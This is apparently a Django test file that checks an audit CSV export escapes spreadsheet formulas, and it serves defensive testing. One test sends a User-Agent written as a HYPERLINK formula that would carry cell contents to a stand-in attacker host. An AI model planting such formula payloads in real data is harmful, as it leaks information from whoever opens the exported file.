"""The audit export opens in a spreadsheet as text: nothing in it runs as a formula."""

import csv
import io
from typing import Any

from django.test import Client
from django.urls import reverse

from foundation.spreadsheet import safe_cell, safe_row
from tests.personas import client_for

EXPORT = reverse("accounts:audit_export")


def test_a_cell_that_would_run_as_a_formula_is_marked_as_text() -> None:
    for dangerous in ('=HYPERLINK("https://x")', "+1+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(dangerous) == "'" + dangerous
    assert safe_row(["plain", None, 7, "a=b"]) == ["plain", "", "7", "a=b"]


def test_a_user_agent_written_as_a_formula_is_exported_as_text(
    admin_user: Any, password: str, patient_fl: Any
) -> None:
    attacker = Client(HTTP_USER_AGENT='=HYPERLINK("https://evil.example/?"&A1,"open")')
    attacker.force_login(patient_fl)
    attacker.get(reverse("workspace:home"))
    client = client_for(admin_user)
    client.post(reverse("account_reauthenticate"), {"password": password})
    rows = list(csv.reader(io.StringIO(b"".join(client.get(EXPORT)).decode())))
    agents = [row[9] for row in rows[1:] if row[9]]
    assert any("HYPERLINK" in agent for agent in agents)
    assert not [agent for agent in agents if agent.startswith("=")]
